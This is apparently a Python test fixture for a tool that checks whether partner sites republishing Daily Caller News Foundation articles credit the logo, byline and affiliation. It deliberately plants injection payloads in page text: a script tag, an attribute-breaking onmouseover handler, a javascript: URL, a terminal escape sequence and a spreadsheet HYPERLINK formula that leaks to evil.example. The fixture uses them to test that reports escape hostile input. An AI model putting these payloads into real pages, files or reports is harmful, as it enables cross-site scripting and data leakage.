"""A fixed Run covering every page status and hostile page text, shared by the report tests."""
from __future__ import annotations

from checker.models import Evidence, Finding, Match, Original, Outcome, PageResult, Run, Severity, Status

HOSTILE_SCRIPT = "<script>alert(1)</script>"
HOSTILE_ATTR = '" onmouseover="alert(1)" x="'
HOSTILE_URL = "javascript:alert(1)"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?leak","click me")'
VIOLATION_PATH = "site/news/50%,off:story.html"

ORIGINAL_1 = Original(
    id="dcnf-2024-0412",
    url="https://dailycallernewsfoundation.org/2024/04/12/school-board-budget/",
    title="School Board Approves Budget After Marathon Session",
    authors=("Jane Reporter",),
    published="2024-04-12",
)
ORIGINAL_2 = Original(
    id="dcnf-2024-0420",
    url="https://dailycallernewsfoundation.org/2024/04/20/senate-vote/",
    # a title with markdown table pipes, emphasis, a link to a javascript: URL and a mention
    title="Senate | House *split* [vote](javascript:alert(1)) @everyone " + HOSTILE_SCRIPT,
    authors=("John Smith", "Ana Núñez"),
)


def build_run() -> Run:
    compliant = PageResult(
        target="https://partner-a.example/news/school-board-budget",
        url="https://partner-a.example/news/school-board-budget",
        status=Status.COMPLIANT,
        original=ORIGINAL_1,
        match=Match(original=ORIGINAL_1, score=0.9312),
        findings=(
            Finding("logo", Outcome.PASS, Severity.ERROR, "DCNF logo found.",
                    (Evidence("article > figure.credit > img", '<img alt="Daily Caller News Foundation">', line=88),),
                    title="DCNF logo"),
            Finding("byline", Outcome.PASS, Severity.ERROR, "Jane Reporter is credited in the byline.",
                    (Evidence("header .byline", "By Jane Reporter, Daily Caller News Foundation", line=41),),
                    title="Reporter byline"),
            Finding("affiliation", Outcome.PASS, Severity.ERROR, "DCNF named in the byline.",
                    (Evidence("header .byline", "Daily Caller News Foundation", line=41),),
                    title="DCNF affiliation"),
        ),
    )
    violation = PageResult(
        target=VIOLATION_PATH,
        url="file:///work/build/site/news/50%25,off:story.html",
        status=Status.VIOLATION,
        original=ORIGINAL_2,
        match=Match(original=ORIGINAL_2, score=0.8125),
        path=VIOLATION_PATH,
        findings=(
            Finding("logo", Outcome.FAIL, Severity.ERROR,
                    "No visible DCNF logo: the only logo image is the Daily Caller's, which is a different organisation.",
                    (Evidence("div.story-head > img.partner-logo", HOSTILE_SCRIPT + '<img src="dc-logo.png" alt="Daily Caller">',
                              expected="Daily Caller News Foundation logo", actual="Daily Caller logo", line=12),),
                    fix="Add the DCNF logo (alt text \"Daily Caller News Foundation\") above or beside the byline.",
                    title="DCNF logo"),
            Finding("byline", Outcome.FAIL, Severity.ERROR,
                    "The byline credits \"Staff\" instead of the reporters John Smith and Ana Núñez.",
                    (Evidence("p.byline", "By Staff | Partner News \x1b[2J" + HOSTILE_ATTR,
                              expected="John Smith, Ana Núñez", actual="Staff", line=40),
                     Evidence("meta[name=author]", "John Smith", line=7)),
                    fix="Credit every reporter by name: \"By John Smith and Ana Núñez, Daily Caller News Foundation\".",
                    title="Reporter byline"),
            Finding("affiliation", Outcome.FAIL, Severity.WARNING,
                    "DCNF is named only in the license notice at the end, not attached to the byline.",
                    (Evidence("footer p.notice", "All content created by the Daily Caller News Foundation… `code` | pipe",
                              line=133),),
                    fix="Write the affiliation into the byline: \"By John Smith, Daily Caller News Foundation\".",
                    title="DCNF affiliation"),
        ),
    )
    review = PageResult(
        target="https://partner-b.example/story?id=3&ref=feed",
        url="https://www.partner-b.example/story?id=3&ref=feed",
        status=Status.REVIEW,
        findings=(
            Finding("logo", Outcome.PASS, Severity.ERROR, "DCNF logo found.",
                    (Evidence("img.dcnf", '<img class="dcnf" alt="DCNF">'),), title="DCNF logo"),
            Finding("byline", Outcome.REVIEW, Severity.ERROR,
                    "No original is known, so the reporter cannot be checked; credited: " + HOSTILE_FORMULA,
                    (Evidence("span.author", HOSTILE_FORMULA),),
                    fix="Pass --originals so the reporter's name can be compared.",
                    title="Reporter byline"),
            Finding("affiliation", Outcome.NOT_APPLICABLE, Severity.ERROR,
                    "Needs a byline to attach to.", title="DCNF affiliation"),
        ),
    )
    not_a_copy = PageResult(
        target="https://partner-c.example/about-us",
        url="https://partner-c.example/about-us",
        status=Status.NOT_A_COPY,
    )
    error = PageResult(
        target=HOSTILE_URL,
        url=HOSTILE_URL,
        status=Status.ERROR,
        error="unsupported URL scheme 'javascript' (expected http, https or a file)",
    )
    return Run(
        license="dcnf",
        tool_version="0.1.0",
        results=(compliant, violation, review, not_a_copy, error),
        started="2024-05-01T02:00:00Z",
        finished="2024-05-01T02:03:12Z",
    )
